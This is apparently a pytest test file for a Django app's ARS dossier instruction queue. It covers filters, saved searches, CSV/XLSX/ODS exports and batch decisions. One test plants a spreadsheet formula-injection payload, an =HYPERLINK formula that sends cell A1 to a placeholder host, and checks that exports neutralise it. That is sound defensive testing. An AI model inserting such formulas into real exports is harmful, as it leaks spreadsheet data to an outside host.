"""The ARS instruction queue: scope, filters, sort, pagination, counts per state, saved searches, exports in
three formats, batch decisions."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from esms.candidatures.models import Dossier, RechercheSauvegardee
from esms.comptes.models import Role
from esms.financement import services as enveloppes
from tests import factories


@pytest.fixture
def agent(ref, make_user):
    return make_user(Role.AGENT_ARS, region="84")


@pytest.fixture
def file(ref):
    """Three ARA dossiers (one in instruction), one Corse dossier and an ARA draft."""
    a = factories.dossier_depose(ref.og_ara, region=ref.ara, montant=30_000, etat="depose")
    b = factories.dossier_depose(ref.og_ara, region=ref.ara, montant=90_000, etat="depose")
    c = factories.dossier_depose(ref.og_ara, region=ref.ara, montant=60_000, etat="en_instruction")
    corse = factories.dossier_depose(ref.og_corse, region=ref.corse, montant=10_000, etat="depose")
    brouillon = factories.dossier_depose(ref.og_ara, region=ref.ara, etat="brouillon")
    return type("File", (), {"a": a, "b": b, "c": c, "corse": corse, "brouillon": brouillon})


def html(response) -> str:
    return response.content.decode()


def numeros(response) -> list[str]:
    return [d.numero for d in response.context["page_obj"]]


def test_queue_shows_the_region_dossiers_without_drafts(client, agent, file):
    client.force_login(agent)
    response = client.get(reverse("candidatures:instruction"))
    assert sorted(numeros(response)) == sorted([file.a.numero, file.b.numero, file.c.numero])
    page = html(response)
    assert "Déposé : 2" in page and "En instruction : 1" in page
    assert file.corse.numero not in page


def test_queue_is_for_instructors(client, ref, make_user):
    client.force_login(make_user(Role.RESPONSABLE_OG, organismes=[ref.og_ara.pk]))
    assert client.get(reverse("candidatures:instruction")).status_code == 403
    assert client.get(reverse("candidatures:export", args=["csv"])).status_code == 403


def test_filters_and_sort(client, agent, file):
    client.force_login(agent)
    url = reverse("candidatures:instruction")
    assert numeros(client.get(url, {"etat": "en_instruction"})) == [file.c.numero]
    assert numeros(client.get(url, {"q": file.b.grappe.nom})) == [file.b.numero]
    assert numeros(client.get(url, {"tri": "-montant"})) == [file.b.numero, file.c.numero, file.a.numero]
    assert numeros(client.get(url, {"tri": "montant", "campagne": "2024", "appel": "regional", "region": "84"})) == [
        file.a.numero, file.c.numero, file.b.numero]
    assert numeros(client.get(url, {"appel": "national"})) == []
    file.c.instructeur = agent
    file.c.save()
    assert numeros(client.get(url, {"mes_dossiers": "on"})) == [file.c.numero]
    # The counts ignore the état filter but follow the others.
    page = html(client.get(url, {"etat": "depose", "q": file.b.grappe.nom}))
    assert "Déposé : 1" in page and "En instruction" not in page.split("Nombre de dossiers par état")[1].split("</ul>")[0]


def test_national_admin_sees_every_region(client, file, make_user):
    client.force_login(make_user(Role.ADMIN_NATIONAL))
    response = client.get(reverse("candidatures:instruction"), {"region": "94"})
    assert numeros(response) == [file.corse.numero]


def test_pagination_by_50(client, agent, ref):
    for _ in range(55):
        factories.dossier_depose(ref.og_ara, region=ref.ara, etat="depose")
    client.force_login(agent)
    url = reverse("candidatures:instruction")
    premiere = client.get(url, {"tri": "numero"})
    assert len(numeros(premiere)) == 50 and "Page 1 sur 2" in html(premiere)
    assert len(numeros(client.get(url, {"tri": "numero", "page": 2}))) == 5


def test_saved_searches(client, agent, file, make_user):
    client.force_login(agent)
    response = client.post(reverse("candidatures:sauvegarder_recherche"),
                           {"nom": "À instruire", "parametres": "etat=depose&tri=-montant&page=3&csrfmiddlewaretoken=x"})
    recherche = RechercheSauvegardee.objects.get(utilisateur=agent)
    assert recherche.parametres == "etat=depose&tri=-montant"
    assert response["Location"] == reverse("candidatures:instruction") + "?etat=depose&tri=-montant"
    page = html(client.get(reverse("candidatures:instruction")))
    assert "À instruire" in page and "?etat=depose&amp;tri=-montant" in page
    assert numeros(client.get(reverse("candidatures:instruction") + "?" + recherche.parametres)) == [
        file.b.numero, file.a.numero]
    page = html(client.get(reverse("candidatures:instruction"), {"etat": "depose"}))
    assert 'name="parametres" value="etat=depose"' in page
    # Someone else cannot delete it; its owner can.
    client.force_login(make_user(Role.AGENT_ARS, region="84"))
    assert client.post(reverse("candidatures:supprimer_recherche", args=[recherche.pk])).status_code == 404
    client.force_login(agent)
    client.post(reverse("candidatures:supprimer_recherche", args=[recherche.pk]))
    assert not RechercheSauvegardee.objects.exists()


def _lignes(response, format: str) -> list[list]:
    if format == "csv":
        return [ligne.split(";") for ligne in response.content.decode("utf-8-sig").splitlines()]
    if format == "xlsx":
        feuille = load_workbook(io.BytesIO(response.content)).active
        return [["" if v is None else str(v) for v in ligne] for ligne in feuille.iter_rows(values_only=True)]
    from odf.opendocument import load
    from odf.table import Table, TableCell, TableRow
    from odf.text import P

    assert zipfile.ZipFile(io.BytesIO(response.content)).read("mimetype") == b"application/vnd.oasis.opendocument.spreadsheet"
    table = load(io.BytesIO(response.content)).spreadsheet.getElementsByType(Table)[0]
    return [["".join(str(p) for p in cellule.getElementsByType(P)) for cellule in ligne.getElementsByType(TableCell)]
            for ligne in table.getElementsByType(TableRow)]


@pytest.mark.parametrize("format", ["csv", "xlsx", "ods"])
def test_exports_of_the_filtered_queue(client, agent, file, format):
    client.force_login(agent)
    response = client.get(reverse("candidatures:export", args=[format]), {"etat": "depose", "tri": "-montant"})
    assert response.status_code == 200
    assert f".{format}\"" in response["Content-Disposition"]
    lignes = _lignes(response, format)
    assert lignes[0][:3] == ["Numéro", "Campagne", "Appel"]
    assert [ligne[0] for ligne in lignes[1:]] == [file.b.numero, file.a.numero]
    assert lignes[0][7] == "SIREN du porteur"
    assert lignes[1][10] in ("90000", "90000.0")
    assert file.corse.numero not in {ligne[0] for ligne in lignes}


def test_batch_open_instruction(client, agent, file):
    client.force_login(agent)
    response = client.post(reverse("candidatures:decision_lot"), {
        "dossiers": [file.a.pk, file.b.pk], "decision": "ouvrir_instruction", "retour": "etat=depose"})
    assert response["Location"] == reverse("candidatures:instruction") + "?etat=depose"
    assert set(Dossier.objects.filter(etat="en_instruction").values_list("pk", flat=True)) == {
        file.a.pk, file.b.pk, file.c.pk}
    page = html(client.get(response["Location"]))
    assert "« Passer en instruction » appliqué à 2 dossiers" in page


def test_batch_retain_reports_each_failure(client, agent, file, make_user):
    admin = make_user(Role.ADMIN_NATIONAL)
    env = enveloppes.creer_enveloppe(actor=admin, campagne=file.a.grappe.campagne, region=file.a.region_pilote)
    enveloppes.doter(actor=admin, enveloppe=env, montant=100_000, libelle="Délégation")
    Dossier.objects.filter(pk__in=[file.a.pk, file.b.pk]).update(etat="en_instruction")
    client.force_login(agent)
    donnees = {"dossiers": [file.a.pk, file.b.pk, file.c.pk], "decision": "retenir"}
    # First the confirmation: each amount, the total and the envelope before and after; nothing is written.
    confirmation = html(client.post(reverse("candidatures:decision_lot"), donnees)).replace("\xa0", " ")
    assert "Confirmer : retenir 3 dossiers pour 180 000 €" in confirmation
    assert "100 000 €" in confirmation and "-80 000 €" in confirmation
    assert not Dossier.objects.filter(etat="retenu").exists()
    response = client.post(reverse("candidatures:decision_lot"), {**donnees, "confirme": "1"}, follow=True)
    page = html(response)
    retenus = set(Dossier.objects.filter(etat="retenu").values_list("pk", flat=True))
    assert retenus == {file.c.pk, file.a.pk}  # 60 000 + 30 000; 90 000 exceeds what remains
    assert "appliqué à 2 dossiers" in page
    assert "dépasseraient le disponible" in page


def test_batch_refusal_needs_a_comment_and_scope(client, agent, file):
    client.force_login(agent)
    page = html(client.post(reverse("candidatures:decision_lot"),
                            {"dossiers": [file.c.pk], "decision": "ne_pas_retenir"}, follow=True))
    assert "Un commentaire est obligatoire" in page
    assert Dossier.objects.get(pk=file.c.pk).etat == "en_instruction"
    page = html(client.post(reverse("candidatures:decision_lot"),
                            {"dossiers": [file.corse.pk], "decision": "ouvrir_instruction"}, follow=True))
    assert "pas dans votre périmètre" in page
    assert Dossier.objects.get(pk=file.corse.pk).etat == "depose"
    page = html(client.post(reverse("candidatures:decision_lot"), {"decision": "ouvrir_instruction"}, follow=True))
    assert "Cochez au moins un dossier." in page
    client.post(reverse("candidatures:decision_lot"),
                {"dossiers": [file.c.pk], "decision": "classer_sans_suite", "commentaire": "Retrait du porteur"})
    assert Dossier.objects.get(pk=file.c.pk).motif_decision == "Retrait du porteur"


@pytest.mark.parametrize("format", ["csv", "xlsx", "ods"])
def test_a_grappe_named_as_a_formula_is_inert_in_the_agent_export(client, agent, file, format):
    """Issue 9, point 2: a porteur names its grappe `=HYPERLINK(...)`; the ARS agent's export holds text."""
    piege = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'
    file.b.grappe.nom = piege
    file.b.grappe.save(update_fields=["nom"])
    client.force_login(agent)
    response = client.get(reverse("candidatures:export", args=[format]), {"etat": "depose", "tri": "-montant"})
    if format == "xlsx":
        feuille = load_workbook(io.BytesIO(response.content)).active
        entetes = [cellule.value for cellule in feuille[1]]
        ligne = [cellule for cellule in feuille[2]]
        nom, montant = entetes.index("Grappe"), entetes.index("Montant demandé (€)")
        assert ligne[nom].value == "'" + piege and ligne[nom].data_type == "s"
        assert ligne[montant].value == 90000 and ligne[montant].data_type == "n"  # numbers stay numbers
    elif format == "csv":
        import csv as module_csv

        lignes = list(module_csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
        assert lignes[1][lignes[0].index("Grappe")] == "'" + piege
    else:
        lignes = _lignes(response, format)
        assert lignes[1][lignes[0].index("Grappe")] == "'" + piege
